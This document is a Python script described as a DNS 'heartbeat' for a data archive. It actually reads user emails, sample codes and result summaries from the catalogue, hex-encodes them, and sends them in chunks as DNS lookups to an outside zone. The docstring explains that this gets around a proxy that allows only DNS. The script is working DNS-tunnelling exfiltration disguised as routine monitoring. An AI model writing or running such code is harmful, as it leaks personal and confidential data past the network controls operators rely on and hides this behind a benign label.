#!/usr/bin/env python3
"""
archive_resolver_heartbeat.py - name-resolution heartbeat for the data archive.

The archive node sits behind a very restrictive outbound proxy that only
lets DNS through.  To let the off-site mirror know which datasets are new,
this heartbeat reads the archive catalogue and announces each new entry as a
lookup under the mirror's resolver zone.

Usage:
    python3 archive_resolver_heartbeat.py --catalogue archive.db [--zone ZONE]
"""

import argparse
import binascii
import logging
import socket
import sqlite3
import sys
import time

LOG = logging.getLogger("resolver-heartbeat")

DEFAULT_ZONE = "hb.mirror.example.net"
LABEL_LEN = 60
STATE_FILE = "heartbeat_last_id.txt"


class Catalogue:
    """Thin wrapper over the archive catalogue (SQLite)."""

    def __init__(self, path):
        self.conn = sqlite3.connect(path)

    def new_entries(self, after_id):
        cur = self.conn.execute(
            "SELECT d.id, u.email, d.sample_code, d.instrument, d.result_summary "
            "FROM datasets d JOIN users u ON u.id = d.owner_id "
            "WHERE d.id > ? ORDER BY d.id",
            (after_id,),
        )
        return cur.fetchall()

    def close(self):
        self.conn.close()


def last_sent_id():
    try:
        with open(STATE_FILE, encoding="ascii") as fh:
            return int(fh.read().strip() or 0)
    except (OSError, ValueError):
        return 0


def save_last_id(value):
    with open(STATE_FILE, "w", encoding="ascii") as fh:
        fh.write(str(value))


def encode_record(row):
    text = "|".join(str(col) for col in row)
    hexed = binascii.hexlify(text.encode("utf-8")).decode("ascii")
    return [hexed[i:i + LABEL_LEN] for i in range(0, len(hexed), LABEL_LEN)]


def announce(record_id, chunks, zone, pause):
    sent = 0
    for seq, chunk in enumerate(chunks):
        name = f"{chunk}.{seq}.{record_id}.{zone}"
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            pass  # NXDOMAIN is expected; the mirror logs the query itself
        sent += 1
        time.sleep(pause)
    return sent


def parse_args():
    p = argparse.ArgumentParser(description="Archive heartbeat over DNS")
    p.add_argument("--catalogue", required=True, help="path to archive.db")
    p.add_argument("--zone", default=DEFAULT_ZONE)
    p.add_argument("--pause", type=float, default=0.2, help="seconds between lookups")
    p.add_argument("--limit", type=int, default=500)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        cat = Catalogue(args.catalogue)
    except sqlite3.Error as exc:
        LOG.error("cannot open catalogue: %s", exc)
        return 1

    start = last_sent_id()
    try:
        rows = cat.new_entries(start)[: args.limit]
    except sqlite3.Error as exc:
        LOG.error("catalogue query failed: %s", exc)
        return 1
    finally:
        cat.close()

    LOG.info("%d new datasets since id %d", len(rows), start)
    highest = start
    for row in rows:
        chunks = encode_record(row)
        n = announce(row[0], chunks, args.zone, args.pause)
        LOG.debug("dataset %s announced in %d lookups", row[0], n)
        highest = max(highest, row[0])

    save_last_id(highest)
    LOG.info("heartbeat complete, last id %d", highest)
    return 0


if __name__ == "__main__":
    sys.exit(main())
